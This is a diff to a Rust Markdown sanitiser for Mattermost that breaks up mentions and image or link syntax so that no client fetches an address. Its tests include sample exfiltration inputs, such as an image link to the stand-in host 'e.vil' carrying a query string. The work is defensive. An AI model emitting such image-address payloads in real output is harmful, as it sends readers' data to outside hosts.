@@ -5,8 +5,9 @@
 //! data away in the address of an image that every reader's client fetches.
 //! Mattermost's server and clients read Markdown each in their own way, so
 //! whatever one of them could take for a mention or a link is broken up, even
-//! where this reader sees none. Code stays as it is.
+//! where this reader sees none. Code stays as it is where all of them see code.
 
+use super::code::sure;
 use super::links::links;
 use crate::markdown::outline;
 
@@ -44,7 +45,7 @@ fn clean(text: &str) -> String {
 /// Puts a [`BREAK`] after every mention sign outside code that could call
 /// somebody, however the sign is written.
 fn mentions(text: &str) -> String {
-    let outline = outline(text);
+    let code = sure(text, &outline(text));
     let mut out = String::with_capacity(text.len() + 16);
     let mut before = ' ';
     let mut skip_to = 0;
@@ -53,7 +54,7 @@ fn mentions(text: &str) -> String {
             continue;
         }
         let rest = text.get(at..).unwrap_or_default();
-        let sign = if outline.in_code(at) { None } else { sign_length(rest) };
+        let sign = if code.contains(at) { None } else { sign_length(rest) };
         let Some(length) = sign else {
             out.push(c);
             before = c;
@@ -133,7 +134,7 @@ mod tests {
             "me@example.org",
             "a @ b",
             "5 > 3 & #64;",
-            "`![a](http://b)` and `[c](d)`",
+            "`[c](d)` and `http://b`",
         ] {
             assert_eq!(plain(text), text);
         }
@@ -142,12 +143,13 @@ mod tests {
     #[test]
     fn no_client_fetches_or_follows_an_address() {
         for (text, want) in [
-            ("![a](http://e.vil/?q=s)", "`![a](http://e.vil/?q=s)`"),
+            ("![a](http://e.vil/?q=s)", "`!\u{200b}[a](http://e.vil/?q=s)`"),
             ("[docs](https://a.b)", "docs (`https://a.b`)"),
             ("see https://a.b/c.", "see `https://a.b/c`."),
             ("(www.a.b)", "(`www.a.b`)"),
+            ("www2.a.b/?q", "`www2.a.b/?q`"),
             ("<https://a.b>", "`https://a.b`"),
-            ("[![a](http://b)](http://c)", "`![a](http://b)` (`http://c`)"),
+            ("[![a](http://b)](http://c)", "`!\u{200b}[a](http://b)` (`http://c`)"),
             ("[a][r]\n\n[r]: http://b", "a (`http://b`)\n\n[r]\u{200b}: `http://b`"),
             ("![a](http://b c)", "!\u{200b}[a]\u{200b}(`http://b` c)"),
             ("[a](//b.c/d)", "a (`//b.c/d`)"),
@@ -162,7 +164,7 @@ mod tests {
         let text = "[docs](https://a.b) https://c.d ![e](http://f)";
         assert_eq!(
             defuse(text, LinkPolicy::Links),
-            "[docs](https://a.b) https://c.d `![e](http://f)`"
+            "[docs](https://a.b) https://c.d `!\u{200b}[e](http://f)`"
         );
     }
 
